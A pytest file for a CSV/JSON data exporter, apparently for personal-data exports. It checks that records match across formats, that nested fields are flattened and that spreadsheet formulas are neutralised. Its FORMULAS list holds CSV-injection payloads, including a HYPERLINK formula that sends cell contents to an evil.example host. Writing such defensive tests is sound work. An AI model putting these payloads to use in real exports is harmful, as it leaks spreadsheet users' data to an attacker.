"""JSON and CSV hold the same records; CSV neutralises formulas; the format helpers."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from uuid import uuid4

import orjson
import pytest

from catalogue import Catalogue
from exporters import EXPORTERS
from exporters.csv import FORMULA_RULE, flatten, neutralise
from exporters.json import json_array
from stores.registry import Stores
from stores.seed import SubjectData
from stores.streams import columns
from tests.exporters.conftest import Bundle, make_bundle, new_subject

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
]


def parse_csv(body: bytes) -> list[dict[str, str]]:
    """A CSV file as Python's csv module reads it: after the UTF-8 byte-order mark it starts
    with (so a spreadsheet on Windows reads the file as UTF-8)."""
    assert body.startswith(b"\xef\xbb\xbf"), body[:10]
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def as_cell(value: Any) -> str:
    """What a JSON value becomes in CSV, by the manifest's rules."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str):
        return neutralise(value)
    return str(value)


def same_time(cell: str, value: str) -> bool:
    return datetime.fromisoformat(cell) == datetime.fromisoformat(value)


def assert_same_records(j: Bundle, c: Bundle, catalogue: Catalogue) -> int:
    seen = 0
    for cat in catalogue:
        if f"data/{cat.key}.json" not in j.files:
            continue
        records = orjson.loads(j.files[f"data/{cat.key}.json"])
        rows = parse_csv(c.files[f"data/{cat.key}.csv"])
        assert len(records) == len(rows) == j.manifest["categories"][cat.key]["records"]
        for record, row in zip(records, rows, strict=True):
            assert list(record) == list(row), cat.key  # same columns, same order
            for key, value in record.items():
                field = next((f for f in cat.fields if key in (f.name, f.name + "_held")), None)
                if field is not None and field.type == "timestamp" and value is not None:
                    assert same_time(row[key], value), (cat.key, key)
                else:
                    assert row[key] == as_cell(value), (cat.key, key)
            seen += 1
    return seen


async def test_csv_and_json_hold_the_same_records(
    alice_json: Bundle, alice_csv: Bundle, catalogue: Catalogue
) -> None:
    assert assert_same_records(alice_json, alice_csv, catalogue) > 50


@pytest.fixture(scope="module")
async def formulas(stores: Stores, catalogue: Catalogue) -> SubjectData:
    at = datetime(2025, 6, 1, tzinfo=UTC)
    provided = [
        {
            "channel": "form",
            "title": t,
            "body": f'body {i}\nsecond "line", {t}',
            "submitted_at": at + timedelta(days=i),
        }
        for i, t in enumerate(FORMULAS)
    ]
    return await new_subject(stores, catalogue, provided=provided)


async def test_formula_injection_is_neutralised_in_csv_only(
    formulas: SubjectData, stores: Stores, catalogue: Catalogue
) -> None:
    c = await make_bundle(stores, catalogue, formulas.id, "csv")
    j = await make_bundle(stores, catalogue, formulas.id, "json")
    rows = parse_csv(c.files["data/provided.csv"])
    assert [r["title"] for r in rows] == ["'" + t for t in FORMULAS]
    assert all(r["body"].startswith("body ") for r in rows)  # untouched: no formula start
    assert [r["title"] for r in orjson.loads(j.files["data/provided.json"])] == FORMULAS
    assert c.manifest["csv_formula_rule"] == FORMULA_RULE
    assert set(FORMULA_RULE["starts_with"]) == {"=", "+", "-", "@", "\t", "\r"}
    assert "csv_formula_rule" not in j.manifest
    # No cell of any CSV file starts a formula.
    for name, body in c.files.items():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")):
                assert not any(cell.startswith(tuple(FORMULA_RULE["starts_with"])) for cell in row)
    assert_same_records(j, c, catalogue)


def test_neutralise_and_flatten() -> None:
    assert [neutralise(t) for t in ("=1", "a=1", "", "'=1")] == ["'=1", "a=1", "", "'=1"]
    nested = {"a": {"b": 1, "c": {"d": None}}, "e": [2, {"f": "x"}], "g": "h"}
    assert dict(flatten(nested)) == {"a.b": 1, "a.c.d": None, "e.0": 2, "e.1.f": "x", "g": "h"}


async def test_csv_rows_from_python_are_flattened_and_neutralised(catalogue: Catalogue) -> None:
    cat = catalogue.category("recordings")
    rows = [
        {
            "file_name": "=cmd.wav",
            "media_type": "audio/x-wav",
            "bytes": 3,
            "recorded_at": datetime(2025, 1, 1, tzinfo=UTC),
            "extra": {"codec": "pcm", "tags": ["-a", "b"]},
        }
    ]
    encoded = EXPORTERS["csv"].rows(cat, rows)
    body = b"".join([c async for c in encoded])
    (row,) = parse_csv(body)
    assert row == {
        "file_name": "'=cmd.wav",
        "media_type": "audio/x-wav",
        "bytes": "3",
        "recorded_at": "2025-01-01T00:00:00+00:00",
        "extra.codec": "pcm",
        "extra.tags.0": "'-a",
        "extra.tags.1": "b",
    }
    assert encoded.records == 1


async def _chunks(parts: list[bytes]) -> AsyncIterator[bytes]:
    for p in parts:
        yield p


@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
async def test_json_array_joins_lines_across_any_chunk_boundary(size: int) -> None:
    lines = b'{"a":1}\n{"b":"x\\ny"}\n{"c":[1,2]}\n'
    parts = [lines[i : i + size] for i in range(0, len(lines), size)]
    out = b"".join([c async for c in json_array(_chunks(parts))])
    assert orjson.loads(out) == [{"a": 1}, {"b": "x\ny"}, {"c": [1, 2]}]


async def test_json_array_of_nothing_is_an_empty_array() -> None:
    assert orjson.loads(b"".join([c async for c in json_array(_chunks([]))])) == []


async def test_a_subject_with_no_rows_gets_empty_files(
    stores: Stores, catalogue: Catalogue
) -> None:
    # dave has only profile, identifiers and preferences
    from stores.seed import subject_id

    for fmt in EXPORTERS:
        b = await make_bundle(stores, catalogue, subject_id("dave"), fmt)
        assert b.manifest["categories"]["web_analytics"]["records"] == 0
        body = b.files[f"data/web_analytics.{fmt}"]
        assert (orjson.loads(body) == []) if fmt == "json" else (len(parse_csv(body)) == 0)


async def test_every_csv_file_starts_with_a_bom_and_opens_with_the_csv_module(
    stores: Stores, catalogue: Catalogue, tmp_path: Path
) -> None:
    zoe = await new_subject(
        stores,
        catalogue,
        profile=[
            {
                "first_name": "Zoë",
                "last_name": "Ångström",
                "email": f"zoe-{uuid4().hex[:6]}@example.com",
                "phone": None,
                "street": None,
                "city": "Köln",
                "region": "NW",
                "postal_code": None,
                "country": "DE",
                "updated_at": datetime(2025, 5, 1, tzinfo=UTC),
            }
        ],
    )
    b = await make_bundle(stores, catalogue, zoe.id, "csv")
    names = [n for n in b.files if n.endswith(".csv")]
    assert len(names) == len(catalogue)
    for name in names:
        assert b.files[name][:3] == b"\xef\xbb\xbf", name
        path = tmp_path / name.replace("/", "_")
        path.write_bytes(b.files[name])
        # How a person's script reads it: the encoding that drops the mark, the csv module.
        with path.open(encoding="utf-8-sig", newline="") as f:
            header = next(csv.reader(f))
        key = name.removeprefix("data/").removesuffix(".csv")
        assert header[: len(columns(catalogue.category(key)))] == list(
            columns(catalogue.category(key))
        ), name
    (profile,) = parse_csv(b.files["data/profile.csv"])
    assert (profile["first_name"], profile["last_name"], profile["city"]) == (
        "Zoë",
        "Ångström",
        "Köln",
    )
    # The manifest's size and digest are of the file as written, mark included.
    entry = b.manifest["categories"]["profile"]["files"][0]
    assert entry["bytes"] == len(b.files["data/profile.csv"])
